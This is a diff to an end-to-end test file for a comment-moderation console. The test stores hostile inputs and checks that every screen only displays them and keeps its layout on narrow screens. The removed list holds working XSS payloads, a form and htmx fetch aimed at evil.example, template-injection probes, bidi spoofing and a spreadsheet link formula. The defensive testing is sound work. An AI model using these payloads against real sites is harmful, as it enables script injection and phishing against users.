@@ -2,28 +2,21 @@
 
 from __future__ import annotations
 
+from urllib.parse import quote
+
 import pytest
 from playwright.sync_api import expect
 
+from moderation.domain.listed import Draft
+from moderation.flow.people.links import By
+from moderation.flow.review import deciding as reviewing
+from moderation.flow.review import looking
+from moderation.flow.sites import choosing
 from tests.e2e.console.conftest import Desk
-from tests.e2e.console.test_screens import fits
+from tests.e2e.console.test_screens import WIDEST, fits
+from tests.hostile import HOSTILE, NAME
 
-HOSTILE = [
-    "<script>alert(1)</script><img src=x onerror=alert(2)>",
-    '"><svg/onload=alert(3)><math><mtext></mtext><mglyph><style><img src=x onerror=alert(4)>',
-    "[click](javascript:alert(5)) javascript:alert(6) data:text/html,<script>alert(7)</script>",
-    "<a href=\"javascript:alert(8)\" style='position:fixed;inset:0'>all of it</a>",
-    "</div></article></main><form action=https://evil.example><button>Approve</button>",
-    "{{ 7*7 }} {% raw %} ${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('alert(9)')()}}",
-    '<b hx-get="https://evil.example/" hx-trigger="load">x</b> <meta http-equiv=refresh content=0>',
-    "Pay \u202egnp.exe\u202c at \u2066here\u2069 and \u200bnow\ufeff",
-    "Z" + "\u0334\u0335\u0336\u0337\u0338" * 400 + "algo " + "e" + "\u0301" * 3000,
-    "\x1b[31mred\x1b[0m \x00nul \x07bell \x85 =HYPERLINK(\"https://evil.example\")",
-    "W" * 65_000,
-    "\n" * 3000 + "below",
-    "https://" + "a" * 3000 + ".example/" + "b" * 5000,
-    "https://xn--pypal-4ve.example/ https://user@evil.example:99/?x=<script>",
-]  # fmt: skip
+NOTED = [("alert", HOSTILE[0]), ("evil", HOSTILE[1]), ("w" * 60, "W" * 400), ("pay", "=1+1")]
 
 
 @pytest.mark.parametrize("width", [1280, 360])
@@ -49,6 +42,53 @@ def test_no_comment_does_more_than_be_read(desk: Desk, width: int) -> None:
             assert fits(page), comment_id
     page.goto(f"{desk.url}/console/review?id={ids[7]}&site={desk.site}")
     expect(page.locator("article.item .text")).to_contain_text("U+202E")
+
+
+def test_no_other_screen_does_more_than_be_read(desk: Desk) -> None:
+    """The narrowest, where a word that does not break sticks out first."""
+    store, by = desk.runtime.store, By(NAME)
+    fields = {"author": {"name": HOSTILE[1], "email": HOSTILE[0], "ip": HOSTILE[3][:60]}}
+    ids = desk.hold(*HOSTILE, **fields)
+    ids += desk.hold(*(f"{text[:60_000]} one" for text in HOSTILE[:7]), **fields)
+    first = desk.comment(ids[0])
+    reviewing.decide(desk.runtime, desk.site, first.id, "spam", NAME, "", first.etag, HOSTILE[1])
+    looking.escalate(desk.runtime, desk.site, ids[1], NAME, HOSTILE[0] + HOSTILE[7])
+    drafts = [Draft("words", word, "spam", text[:400]) for word, text in NOTED]
+    choosing.put_list(store, desk.site, drafts, by, None)
+    page = desk.person(NAME, "administrator", viewport={"width": 360, "height": 800})
+    site, faults = f"{desk.url}/console/sites/{desk.site}", []
+
+    def look(what: str) -> None:
+        if not fits(page):
+            faults.append((what, page.evaluate(WIDEST)))
+
+    for path in (
+        f"queue?site={desk.site}&like={ids[4]}", "queue?escalated=1", "spam", "decisions", "people",
+        f"search?q={quote('alert')}", f"search?q={'W' * 256}", "audit", f"audit?who={quote(NAME)}",
+        f"queue?model={'W' * 256}&email={'W' * 99}", f"comments/{desk.site}/{ids[0]}",
+    ):  # fmt: skip
+        page.goto(f"{desk.url}/console/{path}")
+        look(path[:40])
+    page.goto(f"{site}/lists")
+    look("lists")
+    page.get_by_label("One a line").fill("onerror, form, " + "V" * 60)
+    page.get_by_label("Where").select_option("first")
+    page.get_by_role("radio", name="Approve").check()
+    page.get_by_role("button", name="Try it").click()
+    expect(page.locator("#trial")).to_be_visible()
+    look("trial")
+    page.goto(f"{desk.url}/console/first?site={desk.site}")
+    page.locator("#content").fill(HOSTILE[0] + "W" * 5000)
+    page.get_by_role("button", name="Send").click()
+    page.wait_for_url("**id=*")
+    look("first")
+    page.goto(f"{desk.url}/console/queue?site={desk.site}")
+    for box in page.locator("[name=ticked]").all():
+        box.check()
+    page.get_by_role("button", name="Spam", exact=True).click()
+    expect(page.get_by_role("heading", name="are spam now")).to_be_visible()
+    look("bulk")
+    assert faults == []
 
 
 def test_a_comment_is_shown_as_it_was_written(desk: Desk) -> None:
